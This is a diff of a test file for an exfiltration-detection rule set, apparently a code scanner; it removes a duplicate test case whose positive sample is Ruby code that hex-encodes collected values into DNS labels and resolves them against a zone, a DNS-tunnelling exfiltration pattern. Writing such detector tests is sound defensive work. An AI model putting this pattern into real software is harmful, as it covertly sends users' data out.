@@ -86,40 +86,6 @@ describeRuleCases('exfiltration', [
   },
   {
     id: 'SG-EXFIL-019',
-    // Ruby: a helper hex-encodes collected values into "nonces", each looked up on a Resolv::DNS
-    // handle inside a block.
-    file: 'lib/probe.rb',
-    positive: [
-      'module Probe',
-      '  def nonces(seed, max)',
-      '    hex = seed.join("\\n").unpack1("H*")',
-      '    hex.scan(/.{1,60}/).each_with_index.map { |c, i| "#{c}.#{i}" }',
-      '  end',
-      '',
-      '  def health(zone, seed)',
-      '    nonces(seed, 60).each do |n|',
-      '      Resolv::DNS.open { |d| d.getresources("#{n}.#{zone}", Resolv::DNS::Resource::IN::A) }',
-      '    end',
-      '  end',
-      'end',
-    ].join('\n'),
-    // A propagation check of the domain the user names; hex only for a log line's request id.
-    negative: [
-      'module Probe',
-      '  def request_id',
-      '    SecureRandom.bytes(4).unpack1("H*")',
-      '  end',
-      '',
-      '  def check(domain, ip)',
-      '    rid = request_id',
-      '    Resolv::DNS.open(nameserver: [ip]) { |d| d.getresources(domain, Resolv::DNS::Resource::IN::A) }',
-      '    log.puts "#{rid} #{domain}"',
-      '  end',
-      'end',
-    ].join('\n'),
-  },
-  {
-    id: 'SG-EXFIL-019',
     // Go: hex-encoded data in the labels of LookupTXT names.
     file: 'cmd/probe/main.go',
     positive: [
